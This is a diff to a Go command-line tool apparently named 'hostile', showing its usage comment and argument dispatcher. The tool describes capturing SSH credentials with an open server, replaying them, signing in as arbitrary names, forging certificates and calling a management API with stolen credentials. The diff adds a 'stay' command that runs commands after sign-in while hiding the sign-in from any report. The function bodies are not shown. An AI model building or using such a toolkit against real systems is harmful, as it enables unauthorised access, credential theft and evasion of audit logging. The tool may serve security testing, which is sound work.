@@ -4,6 +4,7 @@
 //	hostile serve                       an SSH server in the tunnel that lets everyone in and prints what they sent
 //	hostile replay TARGET USER CERT     signs in at TARGET (ADDRESS:PORT in the tunnel) with what was captured
 //	hostile login TARGET CERT NAME...   signs in with KEY as each NAME (quoted as in Go), and runs id
+//	hostile stay TARGET USER CERT CMD   signs in with KEY, runs CMD and never reports the sign-in to anybody
 //	hostile forge CERT FILE             writes the best forgery of CERT as FILE and FILE-cert.pub, for a real ssh
 //	hostile ask SOCKET METHOD PATH BODY the service's local API, without the product's client
 //	hostile call URL CERT               calls the management server's API with what was captured
@@ -56,12 +57,14 @@ func run(ctx context.Context, args []string) error {
 		return login(ctx, args[1], args[2], args[3:])
 	case len(args) == 5 && args[0] == "ask":
 		return askLocally(ctx, args[1], args[2], args[3], args[4])
+	case len(args) == 5 && args[0] == "stay":
+		return stay(ctx, args[1], args[2], args[3], args[4])
 	case len(args) == 3 && args[0] == "forge":
 		return forge(args[1], args[2])
 	case len(args) == 3 && args[0] == "call":
 		return call(ctx, args[1], args[2])
 	}
-	return errors.New("call it with serve, replay, login, forge, ask or call")
+	return errors.New("call it with serve, replay, login, stay, forge, ask or call")
 }
 
 // taken is the machine that this program took over from its stopped service.
